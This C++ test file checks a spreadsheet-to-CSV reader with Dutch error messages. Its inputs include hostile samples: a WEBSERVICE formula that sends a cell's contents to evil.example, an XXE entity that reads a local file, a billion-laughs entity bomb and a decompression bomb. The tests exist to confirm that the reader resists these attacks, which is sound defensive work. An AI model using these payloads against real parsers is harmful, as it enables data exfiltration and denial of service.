// Spreadsheets as people send them, and as attackers make them.

#include "tenant/platform/csv/spreadsheet.hpp"

#include <gmock/gmock.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "tenant/platform/images/child.hpp"
#include "tests/support/workbook.hpp"

namespace paraat::test {
namespace {

using testing::HasSubstr;

std::string said(std::string_view bytes) {
  const auto read = csv::from_spreadsheet(bytes);
  return read ? "read: " + *read : untranslated(read.error());
}

class Spreadsheets : public testing::Test {
 protected:
  void SetUp() override {
    if (!std::filesystem::exists("/usr/bin/xlsx2csv")) GTEST_SKIP() << "xlsx2csv is not installed";
  }
};

TEST_F(Spreadsheets, GiveTheValuesOfTheFirstSheetWithDatesThatSayWhichPartIsTheMonth) {
  EXPECT_EQ(said(workbook("<row r=\"1\">" + text_cell("A1", "Naam") + text_cell("B1", "Geboren") +
                          text_cell("C1", "GSM") + "</row><row r=\"2\">" + text_cell("A2", "Zoé; D’hondt") +
                          "<c r=\"B2\" s=\"1\"><v>32992</v></c><c r=\"C2\"><v>470112233</v></c></row>")),
            "read: Naam;Geboren;GSM\n\"Zoé; D’hondt\";1990-04-29;470112233\n");
}

TEST_F(Spreadsheets, CalculateNothing) {
  const std::string read =
      said(workbook("<row r=\"1\">" + text_cell("A1", "Naam") +
                    "<c r=\"B1\"><f>WEBSERVICE(\"http://evil.example/\"&amp;A1)</f><v>7</v></c></row>"));
  EXPECT_EQ(read, "read: Naam;7\n") << "the value that the program kept";
}

TEST_F(Spreadsheets, AreRefusedWithWhatToDo) {
  EXPECT_THAT(said("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old"), HasSubstr("oud rekenblad (.xls)"));
  std::string locked = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
  for (const char c : std::string("EncryptedPackage")) locked += c, locked += '\0';
  EXPECT_THAT(said(locked), HasSubstr("wachtwoord"));
  EXPECT_THAT(said(archive({{"word/document.xml", "<x/>"}})), HasSubstr("geen rekenblad van Excel"));
  EXPECT_THAT(said(workbook("<row r=\"1\">" + text_cell("A1", "Naam") + "</row>").substr(0, 400)),
              HasSubstr("We konden dit rekenblad niet lezen"));
  EXPECT_THAT(said(workbook("")), HasSubstr("staat niets"));
}

TEST_F(Spreadsheets, ABombIsGivenUpWithinItsBounds) {
  const std::string cell = text_cell("A1", std::string(1000, 'x'));
  std::string rows;
  for (int i = 1; i <= 60'000; ++i) rows += "<row r=\"" + std::to_string(i) + "\">" + cell + "</row>";
  const std::string bytes = workbook(rows);
  EXPECT_LT(bytes.size(), 1'000'000U) << "60 MB in less than one";
  EXPECT_THAT(said(bytes), testing::Not(HasSubstr("read:")));
}

TEST_F(Spreadsheets, EntitiesAreNeitherFetchedNorMultiplied) {
  const auto folder = std::filesystem::temp_directory_path() / "paraat-entity-secret";
  std::ofstream(folder) << "geheim";
  EXPECT_THAT(
      said(workbook("<row r=\"1\">" + text_cell("A1", "a&secret;b") + "</row>",
                    "<!DOCTYPE worksheet [<!ENTITY secret SYSTEM \"file://" + folder.string() + "\">]>")),
      testing::Not(HasSubstr("geheim")));
  std::filesystem::remove(folder);
  std::string bomb = "<!DOCTYPE worksheet [<!ENTITY e0 \"lol\">";
  for (int i = 1; i < 12; ++i) {
    bomb += "<!ENTITY e" + std::to_string(i) + " \"";
    for (int j = 0; j < 10; ++j) bomb += "&e" + std::to_string(i - 1) + ";";
    bomb += "\">";
  }
  EXPECT_THAT(said(workbook("<row r=\"1\">" + text_cell("A1", "&e11;") + "</row>", bomb + "]>")),
              testing::Not(HasSubstr("lollol")));
}

TEST_F(Spreadsheets, TheReaderHasNoNetwork) {
  const images::scratch_folder folder;
  const auto done =
      images::run_bounded(folder.path(), {"/bin/cat", "/proc/net/dev"}, std::chrono::seconds{5});
  ASSERT_TRUE(done);
  if (::geteuid() != 0) GTEST_SKIP() << "needs root, or user namespaces";
  EXPECT_THAT(done->output, testing::Not(HasSubstr("eth"))) << done->output;
}

}  // namespace
}  // namespace paraat::test
